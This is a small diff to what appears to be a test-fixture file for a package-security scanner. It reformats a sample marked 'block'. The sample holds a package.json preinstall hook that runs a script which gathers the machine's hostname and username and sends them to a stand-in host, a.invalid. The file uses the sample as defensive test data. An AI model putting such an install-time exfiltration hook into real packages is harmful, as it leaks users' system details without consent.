@@ -58,7 +58,8 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             {
                 "package.json": package(preinstall="node a.js"),
                 "a.js": "const os = require('os');\nconst q = require('https').request('https://a.invalid');\n"
-                "const all = { a: 1,\n  name: os.hostname(), user: os.userInfo().username,\n};\nq.write(JSON.stringify(all));\nq.end();\n",
+                "const all = { a: 1,\n  name: os.hostname(), user: os.userInfo().username,\n};\n"
+                "q.write(JSON.stringify(all));\nq.end();\n",
             },
             "block",
             ("a.js", 4),
